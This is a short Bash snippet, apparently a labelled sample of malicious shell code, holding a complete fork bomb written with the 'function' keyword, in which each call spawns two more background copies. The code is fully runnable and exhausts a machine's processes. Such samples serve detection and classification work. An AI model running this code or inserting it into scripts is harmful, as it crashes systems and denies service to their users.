# Malicious: fork bomb written with the `function` keyword; each call starts two more.
function spawn_workers {
  spawn_workers &
  spawn_workers &
}
spawn_workers
